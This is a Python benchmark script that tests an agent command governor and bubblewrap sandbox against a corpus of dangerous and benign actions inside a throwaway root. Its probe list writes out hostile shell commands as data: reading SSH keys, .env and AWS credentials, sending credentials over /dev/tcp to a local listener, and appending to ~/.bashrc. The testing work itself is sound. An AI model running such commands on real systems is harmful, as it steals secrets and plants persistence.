"""Security measured by effects: the governor corpus run through the real execution path.

Run as root from the repo root (it needs ``unshare -m`` for the throwaway root):
``python bench/governor_effects.py [--quick] [--no-bypass]``.

Every dangerous action (tests/governor/corpus/dangerous.jsonl) and every
benign one that must run (benign_run.jsonl) goes through
:mod:`swarmd.testing.effects` in a throwaway root (tmpfs over /root, /home,
/tmp, a copy of /etc) seeded with canaries. Passes, all in this run:

- ``policy+bwrap``: the shipped policy.yaml decides; allowed actions run in
  bubblewrap exactly as a worker runs them (asked and denied ones never run);
- ``approved+bwrap``: as above, but every asked action runs too (as if a human
  approved it);
- ``sandbox only``: every shell action runs in bubblewrap whatever the policy
  says (the policy switched off), resource-exhaustion rows excluded (a fork
  bomb as root is not bounded by RLIMIT_NPROC);
- ``harness check``: a few probe actions (read the canaries, write
  ~/.bashrc, connect to the listener) run without bubblewrap, to show the
  harness does see effects. (The dangerous corpus itself is never run
  unconfined: ``rm -rf /`` would reach the machine's /usr and /work.)

Then the table by class: rows, % denied, % denied or asked, dangerous
effects per pass; the benign rows: allowed without ask and succeeded
(exit 0 and expected output); decide() p99 over the whole corpus; the
sandbox's start-up cost (median of ``true`` in bwrap) beside a bare
subprocess, measured in the same run.
"""

from __future__ import annotations

import argparse
import collections
import os
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
# bench/ itself off the path: bench/queue_throughput.py would shadow the standard library's queue (urllib3 imports it)
sys.path[:] = [str(REPO / "src")] + [p for p in sys.path if p and Path(p).resolve() != REPO / "bench"]

from rich.console import Console  # noqa: E402
from rich.table import Table  # noqa: E402

from swarmd.governor import Decision, Governor, load_policy  # noqa: E402
from swarmd.testing.effects import cannot_run, run_isolated  # noqa: E402
from swarmd.governor.execute import run_argv  # noqa: E402
from swarmd.governor.sandbox import probe  # noqa: E402
from swarmd.testing.governor import load_corpus, make_workspace, table_resolver  # noqa: E402

CORPUS = REPO / "tests" / "governor" / "corpus"   # data files, read (not imported)
POLICY = REPO / "src" / "swarmd" / "policy.yaml"


#: harness self-check: actions whose effects the harness must see when they run unconfined
PROBES = [{"id": f"probe-{k}", "category": "probe", "tool": "shell", "args": {"command": c}} for k, c in enumerate([
    "cat /root/.ssh/id_rsa", "cat .env", "echo pwned >> /root/.bashrc", "echo hi > /dev/tcp/127.0.0.1/{PORT}",
    "cat /root/.aws/credentials > /dev/tcp/127.0.0.1/{PORT}", "touch /etc/evil-marker", "cat secrets_link/id_rsa"])]


def percentile(values: list[float], q: float) -> float:
    s = sorted(values)
    return s[min(len(s) - 1, int(round(q * (len(s) - 1))))]


def decision_latency(rows: list[dict], repeats: int) -> tuple[float, float, float]:
    """decide() over ``rows`` x ``repeats`` (the first pass parses cold, later ones hit the parse
    cache): (wall p50, wall p99, CPU-time p99) in ms. CPU time (this thread's) leaves out time
    the scheduler gave to other processes, which dominates wall p99 on a loaded machine."""
    gov = Governor(load_policy(POLICY), resolver=table_resolver, confinement=probe())
    wall: list[float] = []
    cpu: list[float] = []
    with tempfile.TemporaryDirectory() as tmp:
        ws = str(make_workspace(Path(tmp)))
        for _ in range(repeats):
            for r in rows:
                t, c = time.perf_counter_ns(), time.thread_time_ns()
                gov.decide(r["tool"], r["args"], ws)
                cpu.append((time.thread_time_ns() - c) / 1e6)
                wall.append((time.perf_counter_ns() - t) / 1e6)
    return percentile(wall, 0.5), percentile(wall, 0.99), percentile(cpu, 0.99)


def startup(n: int) -> tuple[float, float]:
    """Median ms of ``true``: in the sandbox (run_argv, bwrap) and as a bare subprocess."""
    pol = load_policy(POLICY)
    allow = Decision("allow", "bench", "bench")
    sand, bare = [], []
    with tempfile.TemporaryDirectory() as tmp:
        for _ in range(n):
            t = time.perf_counter()
            run_argv(["true"], tmp, pol.execution, allow, policy=pol, confinement=probe())
            sand.append((time.perf_counter() - t) * 1000)
            t = time.perf_counter()
            subprocess.run(["true"], cwd=tmp)
            bare.append((time.perf_counter() - t) * 1000)
    return statistics.median(sand), statistics.median(bare)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--quick", action="store_true", help="every 5th row only")
    ap.add_argument("--no-bypass", action="store_true", help="skip the 'sandbox only' and 'no sandbox' passes")
    ns = ap.parse_args()
    if why := cannot_run():
        print(why, file=sys.stderr)
        return 2
    dangerous = load_corpus(CORPUS / "dangerous.jsonl")
    benign = load_corpus(CORPUS / "benign_run.jsonl")
    if ns.quick:
        dangerous, benign = dangerous[::5], benign[::5]
    t0 = time.time()
    run = run_isolated(dangerous + benign, str(POLICY))
    approved = run_isolated(dangerous, str(POLICY), approve=True, action_timeout_s=5)
    shell_rows = [r for r in dangerous if r["tool"] == "shell" and r["category"] != "resource-exhaustion"]
    bypass: list = []
    if not ns.no_bypass:
        bypass = run_isolated(shell_rows, str(POLICY), bypass=True, action_timeout_s=5)
    nosb = run_isolated(PROBES, str(POLICY), bypass=True, confined=False, action_timeout_s=5)
    elapsed = time.time() - t0

    by = {r.id: r for r in run}
    appr = {r.id: r for r in approved}
    byp = {r.id: r for r in bypass}
    nos = {r.id: r for r in nosb}
    classes: dict[str, list[dict]] = collections.defaultdict(list)
    for r in dangerous:
        classes[r["category"]].append(r)
    table = Table(title=f"governor effects by class ({len(dangerous)} dangerous, {len(benign)} benign; {elapsed:.0f} s)")
    for h in ("class", "rows", "denied %", "denied or asked %", "effects policy+bwrap", "effects approved+bwrap",
              "effects sandbox only"):
        table.add_column(h, justify="right")
    tot = collections.Counter()

    def effects(ids: list[str], res: dict) -> str:
        hit = [i for i in ids if i in res and res[i].effects]
        n = sum(1 for i in ids if i in res)
        return f"{len(hit)}/{n}" if n else "-"

    for cat in sorted(classes):
        ids = [r["id"] for r in classes[cat]]
        den = sum(by[i].decision == "deny" for i in ids)
        stop = sum(by[i].decision in ("deny", "ask") for i in ids)
        tot.update(rows=len(ids), den=den, stop=stop)
        table.add_row(cat, str(len(ids)), f"{den / len(ids):.0%}", f"{stop / len(ids):.0%}", effects(ids, by),
                      effects(ids, appr), effects(ids, byp))
    all_ids = [r["id"] for r in dangerous]
    table.add_row("[bold]all dangerous", str(tot["rows"]), f"{tot['den'] / tot['rows']:.1%}",
                  f"{tot['stop'] / tot['rows']:.1%}", effects(all_ids, by), effects(all_ids, appr),
                  effects(all_ids, byp))
    console = Console(width=160)
    console.print(table)
    ok = [r for r in benign if by[r["id"]].decision == "allow" and by[r["id"]].ok]
    ben_fx = [r["id"] for r in benign if by[r["id"]].effects]
    console.print(f"benign: {len(ok)}/{len(benign)} allowed without ask and succeeded "
                  f"({len(ok) / len(benign):.1%}); benign rows with effects: {len(ben_fx)}")
    for r in benign:
        b = by[r["id"]]
        if not (b.decision == "allow" and b.ok):
            console.print(f"  benign {r['id']} {b.decision} {b.rule} exit={b.exit_code}: {r['args']}")
    for i in all_ids:
        for name, res in (("policy+bwrap", by), ("approved+bwrap", appr), ("sandbox only", byp)):
            if i in res and res[i].effects:
                console.print(f"  effect [{name}] {i} {res[i].decision} {res[i].effects}")
    seen = [p["id"] for p in PROBES if nos[p["id"]].effects]
    console.print(f"harness check (probes run without bwrap): effects seen for {len(seen)}/{len(PROBES)} probes: "
                  + ", ".join(f"{i} {nos[i].effects}" for i in seen))
    allowed = [i for i in all_ids if by[i].decision == "allow"]
    console.print(f"dangerous allowed by the policy: {allowed}")
    p50, p99, cpu99 = decision_latency(load_corpus(CORPUS / "dangerous.jsonl") + load_corpus(CORPUS / "benign.jsonl")
                                       + load_corpus(CORPUS / "benign_run.jsonl"), 3)
    sand, bare = startup(30)
    console.print(f"decide() over the whole corpus, 3 passes: p50 {p50:.3f} ms, p99 {p99:.3f} ms wall, "
                  f"p99 {cpu99:.3f} ms CPU time (load average {os.getloadavg()[0]:.1f} on {os.cpu_count()} cores)")
    console.print(f"command start-up, median of 30 runs of `true`: bwrap sandbox {sand:.1f} ms vs bare subprocess "
                  f"{bare:.1f} ms ({sand / bare:.1f}x; the sandbox figure includes the secret search of the workspace)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
